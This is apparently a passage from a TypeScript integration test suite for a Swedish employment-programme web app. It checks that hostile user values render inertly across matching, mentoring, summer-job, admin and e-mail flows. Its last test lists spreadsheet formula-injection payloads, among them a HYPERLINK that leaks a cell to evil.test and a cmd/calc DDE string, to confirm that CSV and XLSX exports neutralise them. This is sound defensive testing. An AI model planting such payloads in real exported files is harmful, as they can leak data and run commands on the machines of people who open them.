    await expectStatus(await employerMove(declinedId, { to: 'declined', reason: 'sprak', comment: V.declineComment }), 200, 'declined');
    await expectPage(`/matchningar/${declinedId}`, hostileCoach, [V.secondLastName, V.declineComment]);
    // The comment goes to the coach; the employer's page shows the declined proposal.
    await expectPage(`/arbetsgivare/forslag/${declinedId}`, hostileEmployer, [V.title]);
  });

  it('mentoring: mentor and adept names, languages and notes, meeting topics, the end reason, the slot title, the e-mails', async () => {
    const slot = await createOpeningAs(hostileEmployer, 'mentor', today, { title: V.slotTitle });
    await publishAs(hostileEmployer, slot);
    await expectPage(`/mentorskap/mentorer?plats=${slot}`, hostileCoordinator, [V.slotTitle]);

    const mentorResponse = await callAction(
      mentorsPage.action,
      '/mentorskap/mentorer',
      formData({
        firstName: V.mentorFirst,
        lastName: V.mentorLast,
        gender: 'kvinna',
        email: emails.mentor,
        phone: '070-111 22 33',
        organizationId: org,
        occupationCode: '5311',
        languages: V.mentorLanguages.join(', '),
        programmes: ['sprakmentor'],
        availability: ['weekday_evening'],
        maxAdepts: '2',
      }),
      { cookie: hostileCoordinator },
    );
    const mentor = idAfter(await expectStatus(mentorResponse, 302, 'registering the mentor'), '/mentorskap/mentorer/');
    const approve = formData({ intent: 'approve', interviewedOn: today });
    await expectStatus(await callAction(mentorPage.action, `/mentorskap/mentorer/${mentor}`, approve, { cookie: hostileCoordinator, params: { id: mentor } }), 200, 'approving');
    const adeptResponse = await callAction(
      adeptsPage.action,
      '/mentorskap/adepter',
      formData({
        firstName: V.adeptFirst,
        lastName: V.adeptLast,
        gender: 'man',
        birthYear: String(YEAR - 35),
        email: emails.adept,
        programme: 'sprakmentor',
        languages: V.adeptLanguages.join(', '),
        swedishLevel: 'basic',
        availability: ['weekday_evening'],
        coordinatorNotes: V.adeptNotes,
      }),
      { cookie: hostileCoordinator },
    );
    const adept = idAfter(await expectStatus(adeptResponse, 302, 'registering the adept'), '/mentorskap/adepter/');
    const mentorName = `${V.mentorFirst} ${V.mentorLast}`;
    const adeptName = `${V.adeptFirst} ${V.adeptLast}`;
    // The adept's page suggests the mentor.
    await expectPage(`/mentorskap/adepter/${adept}`, hostileCoordinator, [V.adeptFirst, V.adeptLast, V.adeptNotes, ...V.adeptLanguages, V.mentorFirst]);
    const suggestion = await callAction(adeptPage.action, `/mentorskap/adepter/${adept}`, { intent: 'suggest', mentorId: mentor }, { cookie: hostileCoordinator, params: { id: adept } });
    const pair = idAfter(await expectStatus(suggestion, 302, 'suggesting'), '/mentorskap/par/');
    const onPair = (form: Record<string, string>) => callAction(pairPage.action, `/mentorskap/par/${pair}`, formData(form), { cookie: hostileCoordinator, params: { id: pair } });
    await expectStatus(await onPair({ intent: 'confirm' }), 200, 'confirming');
    expectMail((await mailsOf('mentor-introduction', emails.mentor))[0], [V.mentorFirst, adeptName, V.coordinatorName], 'mentor-introduction to the mentor');
    expectMail((await mailsOf('mentor-introduction', emails.adept))[0], [V.adeptFirst, mentorName, V.coordinatorName], 'mentor-introduction to the adept');
    await expectStatus(await onPair({ intent: 'meeting', metOn: today, minutes: '60', topic: V.topic }), 200, 'logging a meeting');
    await sendHealthReminders(getDb(), addDays(today, 60));
    expectMail((await mailsOf('mentor-follow-up', emails.coordinator))[0], [V.coordinatorName, `${mentorName} och ${adeptName}`], 'mentor-follow-up');
    await expectStatus(await onPair({ intent: 'end', endedOn: today, outcome: 'work', reason: V.endReason }), 200, 'ending');

    await expectPage(`/mentorskap/par/${pair}`, hostileCoordinator, [V.mentorFirst, V.adeptFirst, V.topic, V.endReason]);
    await expectPage(`/mentorskap/mentorer/${mentor}`, hostileCoordinator, [V.mentorFirst, V.mentorLast, V.orgName, ...V.mentorLanguages]);
    await expectPage('/mentorskap/mentorer', hostileCoordinator, [V.mentorFirst]);
    await expectPage('/mentorskap/adepter', hostileCoordinator, [V.adeptFirst]);
    await expectPage('/mentorskap', hostileCoordinator, [V.coordinatorName]);
  });

  it('feriejobb: the application’s names, needs, guardian and languages; the offer page and e-mails with the place’s facts', async () => {
    const year = applicationYear(today);
    const pnr = testPersonnummer(`${year - 17}-03-15`, 983);
    const applied = await callAction(
      applyPage.action,
      '/feriejobb/ansok',
      formData({
        personnummer: `${pnr.slice(0, 8)}-${pnr.slice(8)}`,
        firstName: V.youthFirst,
        lastName: V.youthLast,
        gender: 'kvinna',
        email: emails.youth,
        districtId: '1',
        area1: 'barn_och_unga',
        months: ['6', '7'],
        languages: V.youthLanguages.join(', '),
        adaptationNeeds: V.youthNeeds,
        guardianName: V.guardianName,
        guardianPhone: '070-123 45 67',
        consent: 'on',
      }),
    );
    expect(await jsonOf(await expectStatus(applied, 200, 'applying'))).toMatchObject({ sent: true });
    const confirmation = (await mailsOf('feriejobb-confirm', emails.youth))[0];
    expectMail(confirmation, [V.youthFirst], 'feriejobb-confirm');
    const token = /\/feriejobb\/bekrafta\/([A-Za-z0-9_-]+)/.exec(confirmation!.text)![1]!;
    // The confirmation is a form POST on the page: the document after it greets the youth by name.
    await expectPage(`/feriejobb/bekrafta/${token}`, undefined, [V.youthFirst], { form: {} });
    expectMail((await mailsOf('feriejobb-received', emails.youth))[0], [V.youthFirst, ...V.youthLanguages], 'feriejobb-received');

    const [application] = await getDb().select({ id: feriejobbApplications.id }).from(feriejobbApplications).where(eq(feriejobbApplications.email, emails.youth));
    await expectPage(`/feriejobb/ansokningar/${application!.id}`, feriejobbCoordinator, [V.youthFirst, V.youthLast, V.youthNeeds, V.guardianName, ...V.youthLanguages]);
    await expectPage(`/feriejobb/ansokningar?q=${encodeURIComponent(V.youthLast)}`, feriejobbCoordinator, [V.youthLast]);

    // An offer on a hostile place, as a published allocation run leaves it (no form makes one).
    const place = await createOpeningAs(hostileEmployer, 'feriejobb', today, {
      title: V.placeTitle,
      workplaceAddress: V.placeAddress,
      description: V.placeDescription,
      supervisorName: V.placeSupervisor,
    });
    await publishAs(hostileEmployer, place);
    const [run] = await getDb()
      .insert(feriejobbRuns)
      .values({ year, round: 1, seed: 1, status: 'published', progress: 100, answerDeadline: addDays(today, 10), publishedAt: sql`now()` })
      .returning({ id: feriejobbRuns.id });
    const offerToken = newToken();
    await getDb().insert(feriejobbOffers).values({ runId: run!.id, applicationId: application!.id, openingId: place, tokenHash: hashToken(offerToken), deadline: addDays(today, 10) });
    const facts = [`${V.placeTitle} hos ${V.orgName}`, `Plats: ${V.placeAddress}`];
    await expectPage(`/feriejobb/erbjudande/${offerToken}`, undefined, [V.youthFirst, ...facts, V.placeDescription, V.placeSupervisor]);
    await expectPage(`/feriejobb/erbjudande/${offerToken}`, undefined, facts, { form: { answer: 'accept' } });
    expectMail((await mailsOf('feriejobb-accepted', emails.youth))[0], [V.youthFirst, ...facts], 'feriejobb-accepted');

    // The offer e-mail itself is queued when a run is published (feriejobb.test.ts); its template,
    // with the same values:
    for (const guardianCopy of [false, true]) {
      const element = createElement(OfferEmail, { firstName: V.youthFirst, year, placeFacts: facts.join('\n'), deadline: '1 juni', url: `${BASE}/feriejobb/erbjudande/x`, guardianCopy });
      const html = await render(element);
      expectInert(html, 'feriejobb-offer');
      expectShown(html, [V.youthFirst, ...facts], 'feriejobb-offer');
    }
  });

  it('admin: the statistics target note, the match weights note, the audit log', async () => {
    const target = { intent: 'save-target', indicator: 'stockholmsjobb_places', year: String(YEAR), setBy: 'kf', value: '100', note: V.targetNote };
    await expectStatus(await callAction(targetsPage.action, '/admin/mal', target, { cookie: admin }), 200, 'saving a target');
    await expectPage('/admin/mal', admin, [V.targetNote]);

    const current = await jsonOf<{ history: Array<{ weights: Record<string, number> }> }>(await callLoader(weightsPage.loader, '/admin/matchningsvikter', { cookie: admin }));
    const weights = Object.fromEntries(Object.entries(current.history[0]!.weights).map(([k, v]) => [k, String(v)]));
    await expectStatus(await callAction(weightsPage.action, '/admin/matchningsvikter', { ...weights, note: V.weightsNote }, { cookie: admin }), 200, 'saving weights');
    await expectPage('/admin/matchningsvikter', admin, [V.weightsNote]);

    // Who did what: the actors' names (in the filter's list of users too).
    await expectPage('/admin/logg', admin, [V.coachName, V.employerName, V.coordinatorName]);
  });
});

describe('every e-mail this file queued', () => {
  let recorder: ResendRecorder | undefined;
  afterAll(async () => {
    await recorder?.close();
  });

  it('is inert HTML with one-line subjects, in the outbox, on the admin pages and as delivered to the provider', async () => {
    const rows = await getDb().select().from(emailOutbox);
    expect(rows.length).toBeGreaterThan(20);
    for (const row of rows) {
      expectInert(row.html, `${row.template} to ${row.to}`);
      expectPlainHeaders(row, `${row.template} to ${row.to}`);
    }

    const proposal = (await mailsOf('match-proposal', emails.contact))[0]!;
    expect(proposal.subject).toBe(`Ny kandidat föreslagen: ${oneLine(V.title)}`);
    await expectPage('/admin/e-post', admin, [proposal.subject]);
    await expectPage(`/admin/e-post/${proposal.id}`, admin, [proposal.subject, V.message]);

    recorder = await startResendRecorder();
    await getDb().update(emailOutbox).set({ nextAttemptAt: sql`now()` });
    const send = createResendSender('re_test_key', recorder.url);
    while ((await deliverDueEmails(getDb(), send, 'Insteg <noreply@insteg.test>')) > 0) {
      // until every message is sent
    }
    expect(recorder.sent.length).toBe(rows.length);
    for (const sent of recorder.sent) {
      expectPlainHeaders(sent, `delivered ${sent.subject}`);
      expectInert(sent.html ?? '', `delivered ${sent.subject}`);
    }
  });
});

describe('statistics files', () => {
  const FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1;"Klicka")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1;2)'];

  it('never hand a spreadsheet a formula: an organisation named like one is a text cell in CSV and XLSX', async () => {
    const ids: string[] = [];
    for (const name of FORMULAS) {
      const response = await callAction(newOrganizationPage.action, '/admin/organisationer/ny', { name, kind: 'city_unit', cityUnitType: 'bolag' }, { cookie: admin });
      ids.push(idAfter(await expectStatus(response, 302, `creating ${name}`), '/organisationer/'));
    }
    for (const id of [...ids, org]) {
      await getDb().execute(sql`
        insert into openings (organization_id, kind, subtype, title, description, workplace_address, district_id, occupation_code, places,
          start_date, end_date, application_deadline, contact_name, contact_email, supervisor_name, details, status, published_at)
        values (${id}, 'stockholmsjobb', 'ungdomsanstallning', 'Formelplats', 'Beskrivning', 'Adress', 1, '5321', 7,
          '2025-03-01', '2025-12-31', '2025-02-15', 'Kontakt', 'kontakt@exempel.se', 'Handledare', '{}'::jsonb, 'published', '2025-02-01')`);
    }
    await refreshStatistics(getDb(), { force: true });
    await expectPage(`/statistik/organisation/${org}?period=2025`, admin, [V.orgName]);

    const query = '/statistik/export?period=2025&tabell=stockholmsjobb_places.organization';
    const csvResponse = await callLoader(exportRoute.loader, `${query}&format=csv`, { cookie: admin });
    const csv = await (await expectStatus(csvResponse, 200, 'the CSV')).text();
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/g)!.map((c) => c.replace(/;$/, '').replace(/^"|"$/g, '').replaceAll('""', '"')));
    for (const name of FORMULAS) expect(cells, name).toContain(`'${name}`);
    expect(cells).toContain(V.orgName);
    for (const cell of cells) expect(cell, 'a CSV cell a spreadsheet would run').not.toMatch(/^[=+\-@]/);

    const xlsxResponse = await callLoader(exportRoute.loader, `${query}&format=xlsx`, { cookie: admin });
    const [sheet] = await readXlsxFile(Buffer.from(await (await expectStatus(xlsxResponse, 200, 'the XLSX')).arrayBuffer()));
    // XLSX keeps the name as written, in a text (shared string) cell: a spreadsheet shows it, never runs it.
    for (const name of FORMULAS) expect(sheet!.data.flat(), name).toContain(name);
  });
});
